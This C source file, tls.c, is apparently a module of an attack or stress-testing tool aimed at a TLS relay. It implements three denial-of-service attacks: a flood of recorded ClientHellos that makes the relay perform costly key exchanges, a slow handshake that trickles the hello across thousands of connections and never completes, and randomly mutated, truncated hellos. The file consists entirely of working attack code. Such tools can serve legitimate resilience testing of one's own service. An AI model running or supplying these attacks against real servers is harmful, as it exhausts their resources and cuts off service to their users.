/* tls.c - handshakes that cost the relay much and the attacker little, or never end. */
/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <string.h>

enum { HELLO_PARTS = 16, MUTATED_SIZE_MAX = 4096 };

/* The ClientHello of the recording has a key share: the relay answers with its whole flight. */
static void on_open_flood(struct attacker *attacker, struct conn *conn)
{
    net_send(&attacker->net, conn, attacker->hello, attacker->hello_size);
}

static void on_bytes_flood(struct attacker *attacker, struct conn *conn, const char *bytes,
                           size_t size)
{
    (void)bytes;
    (void)size; /* whatever it is, the relay has done its work */
    net_close(&attacker->net, conn);
}

const struct attack attack_tls_flood = {
    .name = "tls-flood",
    .width = 500,
    .on_open = on_open_flood,
    .on_bytes = on_bytes_flood,
};

static void on_tick_slow(struct attacker *attacker, struct conn *conn)
{
    struct attacked *attacked = attacker_of(attacker, conn);
    const size_t part = attacker->hello_size / HELLO_PARTS;
    if (attacked->step < HELLO_PARTS - 1) {
        net_send(&attacker->net, conn, attacker->hello + attacked->step++ * part, part);
    }
}

const struct attack attack_tls_slow = {
    .name = "tls-slow",
    .width = 5000,
    .tick_ms = 200,
    .on_tick = on_tick_slow,
};

static void on_open_random(struct attacker *attacker, struct conn *conn)
{
    char bytes[MUTATED_SIZE_MAX];
    const size_t size = attacker->hello_size < sizeof bytes ? attacker->hello_size : sizeof bytes;
    memcpy(bytes, attacker->hello, size);
    for (size_t i = attacker_random(attacker) % 8; i > 0; i--) {
        bytes[attacker_random(attacker) % size] = (char)attacker_random(attacker);
    }
    net_send(&attacker->net, conn, bytes, 1 + attacker_random(attacker) % size);
}

const struct attack attack_tls_random = {
    .name = "tls-random",
    .width = 500,
    .on_open = on_open_random,
    .on_bytes = on_bytes_flood,
};
